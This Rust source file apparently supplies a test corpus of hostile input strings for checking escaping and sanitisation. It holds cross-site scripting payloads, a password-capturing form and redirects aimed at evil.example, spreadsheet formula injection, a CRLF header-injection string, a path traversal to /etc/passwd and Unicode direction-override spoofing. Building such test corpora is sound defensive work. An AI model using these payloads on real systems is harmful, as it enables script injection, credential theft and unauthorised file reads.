//! Texts that want to be more than text.

/// Markup, script, formulas, directions and sheer length.
pub fn all() -> Vec<String> {
    let mut payloads: Vec<String> = [
        "<script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<form action=https://evil.example><input name=password></form>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<!--",
        "--><b>x",
        "<![CDATA[<b>x</b>]]>",
        "<!DOCTYPE html><plaintext>",
        "\"><img src=x onerror=alert(1)>",
        "'><img src=x onerror=alert(1)>",
        "\" autofocus onfocus=alert(1) x=\"",
        "' autofocus onfocus=alert(1) x='",
        "` onmouseover=alert(1) `",
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;",
        "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)}",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\\u003cscript\\u003e",
        "';alert(1);//",
        "\\\";alert(1);//",
        "]]>",
        "=HYPERLINK(\"https://evil.example\",\"x\")",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "\t=1+1",
        "\u{202e}gnp.exe",
        "\u{2066}\u{2067}\u{202d}x\u{2069}",
        "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
        "\u{feff}\u{200b}\u{200d}",
        "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
        "x\r\nSet-Cookie: a=b",
        "../../etc/passwd",
        "<",
        ">",
        "&",
        "&amp",
        "\"",
        "'",
    ]
    .map(str::to_owned)
    .to_vec();
    payloads.push("x".repeat(10_000));
    payloads.push("<b>".repeat(3_333));
    payloads.push("\u{202e}".repeat(10_000));
    payloads.push("wide words ".repeat(900));
    payloads
}
